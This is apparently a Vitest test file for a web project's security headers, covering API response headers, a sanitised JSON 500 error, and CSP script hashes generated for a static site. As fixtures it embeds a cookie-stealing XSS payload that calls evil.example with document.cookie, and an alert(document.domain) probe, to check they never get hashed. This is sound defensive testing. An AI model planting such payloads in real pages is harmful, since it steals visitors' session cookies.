// Security headers: on every API response (secureHeaders, HSTS one year), and the build's _headers file
// for the static site (CSP with inline-script hashes only), honoured by the local server.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { contentSecurityPolicy, inlineScripts, writeSiteHeaders } from '../../src/api/site-headers.ts';
import { serveSite } from '../../src/server/static-site.ts';
import { makeKit, type Kit } from './helpers.ts';

describe('API response headers', () => {
  let kit: Kit;
  beforeAll(async () => {
    kit = await makeKit();
  });
  afterAll(() => kit.cleanup());

  it('sends security headers and no-store on every answer, errors included', async () => {
    for (const [method, path] of [['GET', '/api/health'], ['GET', '/api/admin/companies'], ['GET', '/api/admin/companies/999'], ['POST', '/api/auth/sign-in']]) {
      const res = await kit.call(method, path, { body: method === 'POST' ? {} : undefined });
      const h = res.headers;
      expect(h.get('strict-transport-security'), path).toBe('max-age=31536000; includeSubDomains');
      expect(h.get('x-content-type-options'), path).toBe('nosniff');
      expect(h.get('x-frame-options'), path).toBe('SAMEORIGIN');
      expect(h.get('content-security-policy'), path).toBe("default-src 'none'; frame-ancestors 'none'");
      expect(h.get('referrer-policy'), path).toBe('strict-origin-when-cross-origin');
      expect(h.get('cache-control'), path).toBe('no-store');
    }
  });

  it('answers an unexpected failure with a JSON 500 that carries no message, path or stack', async () => {
    const broken = await makeKit();
    const cookie = broken.cookie;
    // The database goes away under the API: every query now throws inside a handler.
    broken.db.$client.close();
    const res = await broken.call('GET', '/api/admin/companies', { cookie });
    expect(res.status).toBe(500);
    expect(res.headers.get('content-type')).toContain('application/json');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    const body = await res.text();
    expect(JSON.parse(body)).toEqual({ error: 'Something went wrong on our side. Please try again.' });
    expect(body).not.toMatch(/\bat \S+|SQLITE|\.ts|\/tmp\//);
    broken.cleanup();
  });
});

describe('static site _headers', () => {
  let dir: string;
  const theme = "(function(){document.documentElement.dataset.theme='dark'})();";
  const island = 'customElements.define("astro-island", class extends HTMLElement {});';

  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'ea-headers-'));
    mkdirSync(join(dir, 'de'), { recursive: true });
    mkdirSync(join(dir, 'assets'), { recursive: true });
    writeFileSync(
      join(dir, 'index.html'),
      `<!doctype html><html><head><script>${theme}</script><script type="module" src="/assets/app.js"></script>` +
        `<script type="application/ld+json">{"@type":"Organization"}</script></head><body><p>home</p></body></html>`,
    );
    writeFileSync(join(dir, 'de', 'index.html'), `<!doctype html><script>${theme}</script><script type="module">${island}</script>`);
    writeFileSync(join(dir, 'assets', 'app.Bx1.js'), 'console.log(1)');
    writeFileSync(join(dir, '_headers'), '/robots.txt\n  X-From-Public: yes\n');
    writeSiteHeaders(dir, 'assets');
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  const sha = (s: string) => `'sha256-${createHash('sha256').update(s).digest('base64')}'`;

  it('finds only executable inline scripts', () => {
    const html = readFileSync(join(dir, 'index.html'), 'utf8');
    expect(inlineScripts(html)).toEqual([theme]);
  });

  it('does not take "<script>" text inside attribute values, comments or templates for a script', () => {
    const evil = 'fetch("//evil.example/?c="+document.cookie)';
    const html =
      `<!doctype html><html><head><meta name="description" content="<script>${evil}</script>">` +
      `<script>${theme}</script></head><body>` +
      `<div data-description='<script>${evil}</script>'>x</div>` +
      `<astro-island props="{&quot;d&quot;:&quot;<script>${evil}</script>&quot;}"></astro-island>` +
      `<!-- <script>${evil}</script> --><template><script>${evil}</script></template>` +
      `<textarea><script>${evil}</script></textarea><title-x title="a>b"></title-x>` +
      `<script type="module">${island}</script></body></html>`;
    expect(inlineScripts(html)).toEqual([theme, island]);
  });

  it('reads a script as the browser does, up to its real end tag', () => {
    // Inside a script "<!--<script>" makes the next "</script>" part of the text (double-escaped state).
    const tricky = 'var s = "<!--<script>"; var t = "</script>"; var u = "-->";';
    expect(inlineScripts(`<script>${tricky}</script><p>after</p>`)).toEqual([tricky]);
    expect(inlineScripts('<SCRIPT TYPE="Module">go()</SCRIPT ><script type=" text/javascript ">x()</script>')).toEqual(['go()', 'x()']);
  });

  it('allows exactly the inline scripts of the build, by hash, and nothing inline otherwise', () => {
    const csp = contentSecurityPolicy([sha(theme), sha(island), sha(theme)]);
    expect(csp).toContain(`script-src 'self' ${[sha(theme), sha(island)].sort().join(' ')};`);
    expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/);
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("object-src 'none'");
  });

  it('is served by the local server on every page, with a long cache for fingerprinted assets', async () => {
    const res = await serveSite(dir, new Request('http://127.0.0.1:4321/de'));
    expect(res.status).toBe(200);
    const csp = res.headers.get('content-security-policy')!;
    expect(csp).toContain(sha(theme));
    expect(csp).toContain(sha(island));
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
    expect(res.headers.get('x-frame-options')).toBe('DENY');
    expect(res.headers.get('cache-control')).toBeNull();
    const asset = await serveSite(dir, new Request('http://127.0.0.1:4321/assets/app.Bx1.js'));
    expect(asset.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    // Rules that were already in the folder (public/_headers) are kept.
    expect(readFileSync(join(dir, '_headers'), 'utf8')).toContain('X-From-Public: yes');
    // The file itself is not served.
    expect((await serveSite(dir, new Request('http://127.0.0.1:4321/_headers'))).status).toBe(404);
  });

  it('a page with a hostile description adds no hash for it', () => {
    const hostile = mkdtempSync(join(tmpdir(), 'ea-headers-hostile-'));
    try {
      const evil = 'alert(document.domain)';
      writeFileSync(
        join(hostile, 'index.html'),
        `<!doctype html><meta property="og:description" content="<script>${evil}</script>"><script>${theme}</script>` +
          `<p data-text="</p><script>${evil}</script>">x</p>`,
      );
      // Pages that repeat known script tags are not parsed again; a new tag (even in an attribute) is.
      for (let i = 0; i < 5; i += 1) writeFileSync(join(hostile, `same-${i}.html`), `<!doctype html><script>${theme}</script><p>${i}</p>`);
      writeFileSync(join(hostile, 'ld.html'), `<!doctype html><script>${theme}</script><script type="application/ld+json">{"a":1}</script>`);
      const result = writeSiteHeaders(hostile, 'assets');
      expect(result).toMatchObject({ hashes: 1, pages: 7 });
      expect(result.parsed).toBeLessThanOrEqual(2);
      const csp = readFileSync(join(hostile, '_headers'), 'utf8');
      expect(csp).toContain(sha(theme));
      expect(csp).not.toContain(sha(evil));
    } finally {
      rmSync(hostile, { recursive: true, force: true });
    }
  });
});
